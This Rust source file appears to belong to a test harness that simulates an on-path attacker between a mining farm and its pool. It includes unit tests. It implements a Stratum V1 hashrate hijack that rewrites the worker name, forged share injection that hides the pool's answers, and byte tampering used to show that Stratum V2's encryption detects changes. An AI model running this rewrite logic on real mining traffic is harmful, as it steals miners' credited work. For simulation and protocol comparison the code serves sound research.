//! An attacker on the path between a farm and its pool (scenario `link.attack`): what an
//! ISP, a compromised router or a hostile network can do to the streams it carries.
//!
//! SV1 travels in plaintext, so the attacker reads and rewrites it, and the ends cannot
//! tell. SV2 is encrypted and authenticated (Noise): the same attacker can only change
//! bytes it cannot read, which the ends detect. The attacker records what it did
//! ([`Event::AttackApplied`]) and how each connection it changed ended
//! ([`Event::AttackedConnectionClosed`]); the pool's and the tap's records say whom the
//! work was credited to.

use crate::Direction;
use probe::event::{AttackAction, LinkEnd};
use probe::{mono_ns, Event, Recorder};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// What the attacker does.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "kebab-case")]
pub enum Attack {
    /// The classic hashrate hijack. SV1 `mining.authorize` and `mining.submit` name the
    /// attacker's worker `account` instead of the farm's; on a connection authorized
    /// before the attack began, the attacker first authorizes its own worker and swallows
    /// the answer. The pool credits the attacker; the miners see their shares accepted. On
    /// a stream it cannot read as SV1 (SV2's Noise), its rewrite lands on ciphertext: it
    /// changes one byte of the first chunk each connection sends after the attack began.
    HijackWorker { account: String },
    /// Flips one bit of every `every_bytes`-th byte the link carries, each way (counted
    /// over all its connections): line noise, or a middlebox that mangles what it carries.
    Tamper { every_bytes: u64 },
    /// Inserts one forged message into each connection once the attack is on, farm to
    /// pool: on SV1 a `mining.submit` in the farm's worker's name on its current job (the
    /// pool judges it as the farm's; the attacker hides the answer), on a stream it cannot
    /// read (SV2) a frame of its own bytes.
    Inject,
}

impl Attack {
    /// The attack's name in a scenario.
    pub fn kind(&self) -> &'static str {
        match self {
            Attack::HijackWorker { .. } => "hijack-worker",
            Attack::Tamper { .. } => "tamper",
            Attack::Inject => "inject",
        }
    }
}

/// An attack and when it begins, after the link starts.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScheduledAttack {
    pub attack: Attack,
    pub begins_after: Duration,
}

/// The ids the attacker gives the requests it injects (strings no miner uses), whose
/// answers it hides.
const INJECTED_AUTHORIZE: &str = "attacker-authorize";
const INJECTED_SUBMIT: &str = "attacker-submit";

/// The attacker of one link: shared by its connections.
pub struct Attacker {
    attack: Attack,
    begins_at_ns: u64,
    recorder: Recorder,
    connections: AtomicU64,
    /// Bytes carried since the link started, up and down (for `tamper`).
    carried: [AtomicU64; 2],
}

impl Attacker {
    /// Starts the clock of `scheduled`; records [`Event::AttackBegan`] when it begins.
    pub fn start(scheduled: ScheduledAttack, recorder: Recorder) -> Arc<Attacker> {
        let begins_at_ns = mono_ns() + scheduled.begins_after.as_nanos() as u64;
        let attacker = Arc::new(Attacker {
            attack: scheduled.attack,
            begins_at_ns,
            recorder,
            connections: AtomicU64::new(0),
            carried: Default::default(),
        });
        let announcing = attacker.clone();
        tokio::spawn(async move {
            crate::timer::sleep_until_ns(announcing.begins_at_ns).await;
            announcing.recorder.record(Event::AttackBegan {
                attack: announcing.attack.kind().to_string(),
            });
        });
        attacker
    }

    fn active(&self) -> bool {
        mono_ns() >= self.begins_at_ns
    }

    /// The attacker's hold on a new connection.
    pub(crate) fn connection(self: &Arc<Self>) -> Arc<Mutex<Connection>> {
        Arc::new(Mutex::new(Connection {
            attacker: self.clone(),
            conn: self.connections.fetch_add(1, Ordering::Relaxed),
            protocol: Protocol::Unknown,
            partial: [Vec::new(), Vec::new()],
            own_worker_authorized: false,
            once_done: false,
            worker: None,
            job: None,
            extranonce2_size: 8,
            applied: false,
            closed: false,
        }))
    }
}

/// How the attacker reads a connection, from its first bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Protocol {
    Unknown,
    /// JSON lines: SV1.
    Sv1,
    /// Anything else: for SV2, Noise's handshake and then ciphertext.
    Opaque,
}

/// What the attacker knows of one connection and holds of its bytes.
pub(crate) struct Connection {
    attacker: Arc<Attacker>,
    conn: u64,
    protocol: Protocol,
    /// An SV1 line not yet complete, per direction (up, down).
    partial: [Vec<u8>; 2],
    own_worker_authorized: bool,
    /// Whether the connection's one change (of a stream the attacker cannot read, or its
    /// one injection) is done.
    once_done: bool,
    /// What the attacker read of an SV1 connection: the farm's worker, and its current
    /// job's id and time.
    worker: Option<String>,
    job: Option<(Value, Value)>,
    /// The extranonce2 size the pool gave at subscribe.
    extranonce2_size: usize,
    applied: bool,
    closed: bool,
}

fn index(direction: Direction) -> usize {
    match direction {
        Direction::Up => 0,
        Direction::Down => 1,
    }
}

impl Connection {
    /// The bytes to send on for `chunk`, read going `direction`.
    pub(crate) fn pass(&mut self, direction: Direction, chunk: &[u8]) -> Vec<u8> {
        if self.protocol == Protocol::Unknown && direction == Direction::Up {
            self.protocol = match chunk.iter().find(|b| !b.is_ascii_whitespace()) {
                Some(b'{') => Protocol::Sv1,
                _ => Protocol::Opaque,
            };
        }
        let attacker = self.attacker.clone();
        match (&attacker.attack, self.protocol) {
            (Attack::Tamper { every_bytes }, _) => self.tamper(direction, chunk, *every_bytes),
            (attack, Protocol::Sv1) => self.sv1_lines(direction, chunk, attack),
            (Attack::HijackWorker { .. }, _) => self.change_ciphertext(direction, chunk),
            (Attack::Inject, _) => self.inject_frame(direction, chunk),
        }
    }

    fn record(&mut self, direction: Direction, action: AttackAction) {
        self.applied = true;
        self.attacker.recorder.record(Event::AttackApplied {
            conn: self.conn,
            up: direction == Direction::Up,
            action,
        });
    }

    fn tamper(&mut self, direction: Direction, chunk: &[u8], every_bytes: u64) -> Vec<u8> {
        let carried = &self.attacker.carried[index(direction)];
        let first = carried.fetch_add(chunk.len() as u64, Ordering::Relaxed);
        let mut out = chunk.to_vec();
        if !self.attacker.active() {
            return out;
        }
        let every = every_bytes.max(1);
        // The stream's byte numbers every_bytes, 2 * every_bytes, ... that fall in this chunk.
        let mut next = (first / every + 1) * every;
        while next <= first + chunk.len() as u64 {
            out[(next - first - 1) as usize] ^= 0x01;
            self.record(direction, AttackAction::ByteFlipped);
            next += every;
        }
        out
    }

    /// SV2's stream read by an attacker who cannot decrypt it: its rewrite of the channel's
    /// identity changes a byte of the first chunk the farm sends once the attack is on.
    fn change_ciphertext(&mut self, direction: Direction, chunk: &[u8]) -> Vec<u8> {
        let mut out = chunk.to_vec();
        if direction == Direction::Up
            && !self.once_done
            && !out.is_empty()
            && self.attacker.active()
        {
            let middle = out.len() / 2;
            out[middle] ^= 0xff;
            self.once_done = true;
            self.record(direction, AttackAction::CiphertextChanged);
        }
        out
    }

    /// A stream the attacker cannot read, with a forged frame of its own before the first
    /// chunk the farm sends once the attack is on: 6 bytes of header and 16 of MAC, what
    /// the smallest encrypted SV2 frame takes, of bytes no key made.
    fn inject_frame(&mut self, direction: Direction, chunk: &[u8]) -> Vec<u8> {
        if direction == Direction::Down || self.once_done || !self.attacker.active() {
            return chunk.to_vec();
        }
        self.once_done = true;
        let mut out: Vec<u8> = (0..22).map(|_| rand::random::<u8>()).collect();
        out.extend_from_slice(chunk);
        self.record(direction, AttackAction::FrameInjected);
        out
    }

    /// SV1 read line by line: complete lines go on (changed once the attack is on), a
    /// partial one waits for its end. The attacker reads every line for the farm's worker
    /// and current job, and hides the answers to what it injected.
    fn sv1_lines(&mut self, direction: Direction, chunk: &[u8], attack: &Attack) -> Vec<u8> {
        let mut held = std::mem::take(&mut self.partial[index(direction)]);
        held.extend_from_slice(chunk);
        let complete = held.iter().rposition(|&b| b == b'\n').map_or(0, |i| i + 1);
        self.partial[index(direction)] = held.split_off(complete);
        let active = self.attacker.active();
        let mut out = Vec::with_capacity(held.len() + 256);
        for line in held.split_inclusive(|&b| b == b'\n') {
            let message = serde_json::from_slice::<Value>(line).ok();
            if let Some(m) = &message {
                self.learn(direction, m);
            }
            match (direction, active, attack) {
                (_, false, _) => out.extend_from_slice(line),
                (Direction::Down, true, _) => {
                    if !message.as_ref().is_some_and(is_answer_to_injected) {
                        out.extend_from_slice(line);
                    }
                }
                (Direction::Up, true, Attack::HijackWorker { account }) => {
                    self.rewrite_request(message, line, account, &mut out)
                }
                (Direction::Up, true, _) => {
                    self.inject_submit(&mut out);
                    out.extend_from_slice(line);
                }
            }
        }
        out
    }

    /// The farm's worker (from its authorization) and its current job (from the pool's
    /// notifications), as the attacker reads them.
    fn learn(&mut self, direction: Direction, message: &Value) {
        match (direction, message["method"].as_str()) {
            (Direction::Up, Some("mining.authorize")) => {
                self.worker = message["params"][0].as_str().map(str::to_string);
            }
            (Direction::Down, Some("mining.notify")) => {
                let params = &message["params"];
                self.job = Some((params[0].clone(), params[7].clone()));
            }
            // The answer to mining.subscribe: [subscriptions, extranonce1, extranonce2 size].
            (Direction::Down, None) => {
                if let Some(size) = message["result"][2]
                    .as_u64()
                    .filter(|s| (1..=32).contains(s))
                {
                    self.extranonce2_size = size as usize;
                }
            }
            _ => {}
        }
    }

    /// Once a connection's worker and job are known: a share the farm never found, in its
    /// worker's name, before the farm's next request.
    fn inject_submit(&mut self, out: &mut Vec<u8>) {
        let (Some(worker), Some((job_id, ntime)), false) =
            (&self.worker, &self.job, self.once_done)
        else {
            return;
        };
        let extranonce2 = "00".repeat(self.extranonce2_size);
        let forged = serde_json::json!({
            "id": INJECTED_SUBMIT,
            "method": "mining.submit",
            "params": [worker, job_id, extranonce2, ntime, "00000000"],
        });
        out.extend_from_slice(forged.to_string().as_bytes());
        out.push(b'\n');
        self.once_done = true;
        self.record(Direction::Up, AttackAction::SubmitInjected);
    }

    /// A farm's request, with the attacker's worker in place of the farm's.
    fn rewrite_request(
        &mut self,
        message: Option<Value>,
        line: &[u8],
        account: &str,
        out: &mut Vec<u8>,
    ) {
        let Some(mut request) = message else {
            out.extend_from_slice(line);
            return;
        };
        let method = request["method"].as_str().unwrap_or_default().to_string();
        let action = match method.as_str() {
            "mining.authorize" => AttackAction::AuthorizeRewritten,
            "mining.submit" => AttackAction::SubmitRewritten,
            _ => {
                out.extend_from_slice(line);
                return;
            }
        };
        if action == AttackAction::SubmitRewritten && !self.own_worker_authorized {
            let authorize = serde_json::json!({
                "id": INJECTED_AUTHORIZE,
                "method": "mining.authorize",
                "params": [account, "x"],
            });
            out.extend_from_slice(authorize.to_string().as_bytes());
            out.push(b'\n');
            self.record(Direction::Up, AttackAction::OwnWorkerAuthorized);
        }
        self.own_worker_authorized = true;
        match request["params"].get_mut(0) {
            Some(worker) => *worker = Value::from(account),
            None => {
                out.extend_from_slice(line);
                return;
            }
        }
        out.extend_from_slice(request.to_string().as_bytes());
        out.push(b'\n');
        self.record(Direction::Up, action);
    }

    /// Records how a connection the attacker changed ended: `by` the end that closed
    /// first, at `t_ns`.
    pub(crate) fn closed(&mut self, by: LinkEnd, t_ns: u64) {
        if self.applied && !self.closed {
            self.closed = true;
            self.attacker.recorder.record_at(
                t_ns,
                Event::AttackedConnectionClosed {
                    conn: self.conn,
                    by,
                },
            );
        }
    }
}

/// The pool's answer to a request the attacker injected, which the miner never made.
fn is_answer_to_injected(message: &Value) -> bool {
    message["id"] == INJECTED_AUTHORIZE || message["id"] == INJECTED_SUBMIT
}

#[cfg(test)]
mod tests {
    use super::*;

    fn connection(attack: Attack, begins_after: Duration) -> Connection {
        let attacker = Attacker {
            attack,
            begins_at_ns: mono_ns() + begins_after.as_nanos() as u64,
            recorder: Recorder::disabled(),
            connections: AtomicU64::new(0),
            carried: Default::default(),
        };
        Arc::into_inner(Arc::new(attacker).connection())
            .unwrap()
            .into_inner()
            .unwrap()
    }

    fn hijack() -> Attack {
        Attack::HijackWorker {
            account: "thief.rig".into(),
        }
    }

    fn text(bytes: Vec<u8>) -> String {
        String::from_utf8(bytes).unwrap()
    }

    #[test]
    fn a_hijack_renames_the_worker_and_authorizes_its_own_on_a_connection_already_open() {
        let mut c = connection(hijack(), Duration::ZERO);
        let submit =
            br#"{"id":7,"method":"mining.submit","params":["farm.1","j1","00","5f","01"]}"#;
        let mut line = submit.to_vec();
        line.push(b'\n');
        // Split across two reads: nothing goes on before the line is whole.
        assert!(c.pass(Direction::Up, &line[..20]).is_empty());
        let out = text(c.pass(Direction::Up, &line[20..]));
        let lines: Vec<Value> = out
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(lines.len(), 2, "{out}");
        assert_eq!(lines[0]["method"], "mining.authorize");
        assert_eq!(lines[0]["params"][0], "thief.rig");
        assert_eq!(lines[1]["id"], 7);
        assert_eq!(lines[1]["params"][0], "thief.rig");
        assert_eq!(lines[1]["params"][1], "j1");
        // The pool's answer to the injected authorization never reaches the miner; the
        // answer to the share does.
        let answers = format!(
            "{{\"id\":\"{INJECTED_AUTHORIZE}\",\"result\":true,\"error\":null}}\n{{\"id\":7,\"result\":true,\"error\":null}}\n"
        );
        let down = text(c.pass(Direction::Down, answers.as_bytes()));
        assert_eq!(down, "{\"id\":7,\"result\":true,\"error\":null}\n");
        // The next share is renamed without a second authorization.
        let out = text(c.pass(Direction::Up, &line));
        assert_eq!(out.lines().count(), 1);
    }

    #[test]
    fn before_the_attack_begins_the_stream_passes_unchanged() {
        let mut c = connection(hijack(), Duration::from_secs(3600));
        let line = b"{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"farm.1\",\"x\"]}\n";
        assert_eq!(c.pass(Direction::Up, line), line.to_vec());
        assert!(!c.applied);
    }

    #[test]
    fn a_hijack_of_a_stream_it_cannot_read_changes_one_byte_of_the_first_chunk_only() {
        let mut c = connection(hijack(), Duration::ZERO);
        let handshake = [0x5au8; 64];
        let out = c.pass(Direction::Up, &handshake);
        let changed: Vec<usize> = (0..64).filter(|&i| out[i] != handshake[i]).collect();
        assert_eq!(changed, vec![32]);
        assert_eq!(c.pass(Direction::Up, &handshake), handshake.to_vec());
        assert_eq!(c.pass(Direction::Down, &handshake), handshake.to_vec());
    }

    #[test]
    fn an_injection_forges_one_share_in_the_farms_name_on_its_job_and_hides_the_answer() {
        let mut c = connection(Attack::Inject, Duration::ZERO);
        let authorize =
            b"{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"farm.1\",\"x\"]}\n";
        // Before a job is known, nothing can be forged.
        assert_eq!(c.pass(Direction::Up, authorize), authorize.to_vec());
        let notify = b"{\"id\":null,\"method\":\"mining.notify\",\"params\":[\"j9\",\"00\",\"01\",\"02\",[],\"20000000\",\"1d00ffff\",\"6553f100\",true]}\n";
        assert_eq!(c.pass(Direction::Down, notify), notify.to_vec());
        let submit = b"{\"id\":5,\"method\":\"mining.submit\",\"params\":[\"farm.1\",\"j9\",\"00\",\"6553f100\",\"01\"]}\n";
        let out = text(c.pass(Direction::Up, submit));
        let lines: Vec<Value> = out
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(lines.len(), 2, "{out}");
        assert_eq!(lines[0]["id"], INJECTED_SUBMIT);
        assert_eq!(lines[0]["params"][0], "farm.1");
        assert_eq!(lines[0]["params"][1], "j9");
        assert_eq!(lines[0]["params"][3], "6553f100");
        assert_eq!(lines[1]["id"], 5);
        // Once a connection.
        assert_eq!(c.pass(Direction::Up, submit), submit.to_vec());
        let answer = format!("{{\"id\":\"{INJECTED_SUBMIT}\",\"result\":null,\"error\":[23,\"Low difficulty share\",null]}}\n");
        assert!(c.pass(Direction::Down, answer.as_bytes()).is_empty());
    }

    #[test]
    fn an_injection_into_a_stream_it_cannot_read_is_a_frame_of_its_own_bytes_once() {
        let mut c = connection(Attack::Inject, Duration::ZERO);
        let frame = [0x77u8; 40];
        let out = c.pass(Direction::Up, &frame);
        assert_eq!(out.len(), 62);
        assert_eq!(&out[22..], &frame[..]);
        assert_eq!(c.pass(Direction::Up, &frame), frame.to_vec());
    }

    #[test]
    fn tamper_flips_one_bit_every_n_bytes_across_chunks() {
        let mut c = connection(Attack::Tamper { every_bytes: 10 }, Duration::ZERO);
        let zeros = [0u8; 7];
        // Bytes 1..=7, 8..=14, 15..=21: the 10th and the 20th flip.
        let a = c.pass(Direction::Up, &zeros);
        let b = c.pass(Direction::Up, &zeros);
        let d = c.pass(Direction::Up, &zeros);
        assert_eq!(a, zeros.to_vec());
        assert_eq!(b, vec![0, 0, 1, 0, 0, 0, 0]);
        assert_eq!(d, vec![0, 0, 0, 0, 0, 1, 0]);
        // Each direction counts its own bytes.
        assert_eq!(c.pass(Direction::Down, &zeros), zeros.to_vec());
    }
}
